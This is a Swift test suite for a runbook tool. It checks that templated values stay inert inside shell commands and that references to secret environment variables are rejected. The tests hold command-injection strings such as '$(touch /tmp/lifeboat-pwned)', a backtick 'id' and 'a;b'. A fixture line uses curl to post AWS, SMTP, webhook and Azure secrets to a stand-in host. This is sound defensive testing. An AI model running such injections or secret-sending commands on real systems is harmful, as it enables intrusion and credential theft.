import Foundation
import Testing
@testable import LifeboatRunbooks

/// Issue 18, item 4: `${…}` values go into a `shell` command as data, and `${env.X}` cannot
/// read a secret.
@Suite struct RunbookSecretsTests {
    static let hostile = [
        "plain", "", "two words", "$(touch /tmp/lifeboat-pwned)", "`id`", "a;b", "it's", #"say "hi""#,
        #"back\slash"#, "$HOME", "new\nline", "'\"'$(x)\"'"
    ]

    /// What /bin/sh makes of `printf %s <rendered>`: the value itself, whatever it holds.
    static func shellReadsBack(_ template: String, _ value: String) throws -> String {
        let command = try Template.parse(template).renderForShell { _ in value }
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/bin/sh")
        process.arguments = ["-c", command]
        let output = Pipe()
        process.standardOutput = output
        try process.run()
        let data = output.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        return String(decoding: data, as: UTF8.self)
    }

    /// What command substitution does to its output.
    static func trailingNewlinesGone(_ text: String) -> String {
        var text = text
        while text.hasSuffix("\n") { text.removeLast() }
        return text
    }

    @Test(arguments: hostile)
    func aValueIsReadBackUnchangedBareInSingleAndInDoubleQuotes(value: String) throws {
        #expect(try Self.shellReadsBack("printf %s ${inputs.x}", value) == value)
        #expect(try Self.shellReadsBack("printf %s '<${inputs.x}>'", value) == "<\(value)>")
        #expect(try Self.shellReadsBack(#"printf %s "<${inputs.x}>/log""#, value) == "<\(value)>/log")
        #expect(try Self.shellReadsBack(#"printf %s "a"${inputs.x}'b'"#, value) == "a\(value)b")
        // Command substitution starts a fresh level, even inside double quotes.
        #expect(
            try Self.shellReadsBack(#"printf %s "$(printf %s "${inputs.x}")""#, value)
                == Self.trailingNewlinesGone(value))
        #expect(
            try Self.shellReadsBack(#"printf %s "$(printf %s ${inputs.x} | (cat))-`printf %s ${inputs.x}`""#, value)
                == "\(Self.trailingNewlinesGone(value))-\(Self.trailingNewlinesGone(value))")
    }

    @Test func quoteStateFollowsTheLiteralText() {
        #expect(ShellQuoting.context(after: #"echo "a"#, from: .bare) == .double)
        #expect(ShellQuoting.context(after: #"echo 'a"b"#, from: .bare) == .single)
        #expect(ShellQuoting.context(after: #"echo \"a"#, from: .bare) == .bare)
        #expect(ShellQuoting.context(after: #"echo "a\"b"#, from: .bare) == .double)
        #expect(ShellQuoting.quote("it's", in: .bare) == #"'it'\''s'"#)
        #expect(ShellQuoting.context(after: #"stat "$(dirname ""#, from: .bare) == .double)
        #expect(ShellQuoting.context(after: #"stat "$(dirname "x")"#, from: .bare) == .double)
        #expect(ShellQuoting.context(after: #"stat "$(dirname "x")""#, from: .bare) == .bare)
        #expect(ShellQuoting.context(after: #"a "$(b (c) "#, from: .bare) == .bare)
    }

    @Test(arguments: [
        "AWS_SECRET_ACCESS_KEY", "BACKUP_SMTP_PASSWORD", "BACKUP_WEBHOOK_SECRET", "AZURE_STORAGE_KEY", "DATABASE_URL"
    ])
    func envReferenceToASecretIsRefusedAtItsLine(name: String) throws {
        let text = """
            name: leak
            description: x
            steps:
              - id: a
                action: shell
                with: { command: "curl -d ${env.\(name)} https://example.invalid" }
            """
        let runbook = try RunbookLoader().load(text: text, file: "leak.yaml")
        let issues = RunbookValidator().validate(runbook)
        let issue = try #require(issues.first, "no issue for ${env.\(name)}")
        #expect(issue.message.contains("secret"), "\(issue)")
        #expect(issue.location.file == "leak.yaml" && issue.location.line == 6, "\(issue.location)")
    }

    @Test func envReferenceToAnOrdinaryVariableIsFine() throws {
        let text = """
            name: fine
            description: x
            steps:
              - id: a
                action: shell
                with: { command: "echo ${env.HOME} ${env.AWS_REGION}" }
            """
        #expect(RunbookValidator().validate(try RunbookLoader().load(text: text, file: "fine.yaml")).isEmpty)
    }
}
